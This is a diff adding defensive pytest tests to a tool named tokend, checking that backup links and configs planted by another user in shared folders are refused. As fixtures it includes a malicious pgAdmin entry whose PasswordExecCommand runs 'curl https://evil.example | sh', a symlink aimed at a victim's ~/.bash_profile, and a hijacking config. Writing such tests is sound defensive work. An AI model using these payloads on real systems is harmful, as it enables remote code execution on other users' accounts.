@@ -138,6 +138,74 @@ def test_devices_fifos_and_hard_links_are_never_replaced(
     assert r.returncode == 1 and "hard links" in r.stderr and (tmp_path / "second-name").read_text() == USER
 
 
+PGADMIN_EXPORT = '{\n    "Servers": {\n        "1": {"Name": "local", "Host": "localhost", "Port": 5432}\n    }\n}\n'
+
+
+def pgadmin_output(write_config, em: Tenant, pg: Postgres, out: Path, *more: str) -> subprocess.CompletedProcess[str]:
+    cfg = write_config(sp_config(em, pg.port))
+    return tokend("clients", *more, "pgadmin", "--output", str(out), "--config", str(cfg))
+
+
+@pytest.fixture(params=["sticky", "group"])
+def team(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
+    """A folder other users write too: a shared /tmp-like one (sticky), or a team folder the other user's group
+    may write (setgid, not sticky)."""
+    import grp
+
+    folder = tmp_path / "team"
+    folder.mkdir()
+    if request.param == "sticky":
+        folder.chmod(0o1777)
+    else:
+        os.chown(folder, -1, grp.getgrnam("tokend-other").gr_gid)
+        folder.chmod(0o2770)
+    open_path_for_others(folder / "x")
+    return folder
+
+
+def test_a_backup_link_planted_by_another_user_creates_nothing(
+    em: Tenant, postgres: Postgres, write_config, home: Path, team: Path, other_user
+) -> None:
+    """Beside a servers.json in a shared folder, another user plants a link named like tokend's backup that points
+    at the victim's ~/.bash_profile (run at their next login). The old code copied the file there first (creating
+    that profile as the victim, with the file's content and mode) and checked afterwards."""
+    profile = home / ".bash_profile"
+    theirs, mine = team / "theirs.json", team / "mine.json"
+    other_user("sh", "-c", f"echo 'touch /tmp/tokend-pwned #' > {theirs}")
+    mine.write_text(PGADMIN_EXPORT)
+    for f in (theirs, mine):
+        other_user("ln", "-s", str(profile), f"{f}.tokend-backup")
+    for f in (theirs, mine):
+        r = pgadmin_output(write_config, em, postgres, f)
+        assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1, r.stderr
+        assert "another user" in r.stderr and "Traceback" not in r.stderr
+        assert not os.path.lexists(profile), r.stderr
+    assert theirs.read_text() == "touch /tmp/tokend-pwned #\n" and mine.read_text() == PGADMIN_EXPORT
+
+
+def test_a_backup_is_private_and_restored_only_while_it_is_safely_yours(
+    em: Tenant, postgres: Postgres, write_config, tmp_path: Path, other_user
+) -> None:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    export = folder / "servers.json"
+    export.write_text(PGADMIN_EXPORT)
+    export.chmod(0o644)
+    assert pgadmin_output(write_config, em, postgres, export).returncode == 0
+    backup = folder / "servers.json.tokend-backup"
+    assert backup.read_text() == PGADMIN_EXPORT and stat.S_IMODE(backup.stat().st_mode) == 0o600  # copy2 kept 0644
+    # later the folder is shared (sticky, like /tmp), the backup has gone, and another user puts their own there
+    backup.unlink()
+    folder.chmod(0o1777)
+    open_path_for_others(folder / "x")
+    evil = '{"Servers": {"1": {"Name": "local", "PasswordExecCommand": "curl https://evil.example | sh"}}}'
+    other_user("sh", "-c", f"echo '{evil}' > {folder}/evil.json && ln -s {folder}/evil.json {backup}")
+    r = pgadmin_output(write_config, em, postgres, export, "remove")
+    assert r.returncode == 0 and "its backup was not used" in r.stdout and "owned by another user" in r.stdout
+    assert "evil" not in export.read_text() and json.loads(export.read_text()) == json.loads(PGADMIN_EXPORT)
+    assert backup.is_symlink()  # theirs: left alone
+
+
 def test_init_writes_through_no_predictable_temporary_name(
     em: Tenant, postgres: Postgres, tmp_path: Path, monkeypatch
 ) -> None:
@@ -172,6 +240,24 @@ def test_init_writes_through_no_predictable_temporary_name(
     )
     assert cfg.exists() and "[targets.localhost]" in cfg.read_text(), r.stderr
     assert victim.read_text() == "precious\n"
+
+
+def test_init_never_takes_over_a_config_another_user_put_in_a_shared_folder(
+    em: Tenant, postgres: Postgres, shared: Path, monkeypatch, other_user
+) -> None:
+    """`init` writes through the one safe writer too: a config.toml another user left in a shared folder (with an
+    identity and a pgpass path of theirs) is neither read into the victim's daemon config nor replaced."""
+    cfg = shared / "config.toml"
+    theirs = '[identities.evil]\nsource = "azure-cli"\n[sinks.pgpass]\npath = "/tmp/their-pgpass"\n'
+    other_user("sh", "-c", f"printf '{theirs}' > {cfg}")
+    monkeypatch.setenv("TOKEND_TEST_SECRET", "x")
+    r = tokend(
+        *("init", "--server", "127.0.0.1", "--port", str(postgres.port), "--user", GROUP),
+        *("--identity", "service-principal", "--tenant", em.tenant_id, "--client-id", em.app.client_id),
+        *("--client-secret-env", "TOKEND_TEST_SECRET", "--authority", em.url, "--no-service", "--config", str(cfg)),
+    )
+    assert r.returncode == 1 and "writable by other users" in r.stderr and len(r.stderr.strip().splitlines()) == 1
+    assert cfg.read_text() == theirs and cfg.stat().st_uid != os.getuid()
 
 
 # -- 3. folders that hold secrets are checked ------------------------------------------------------------------
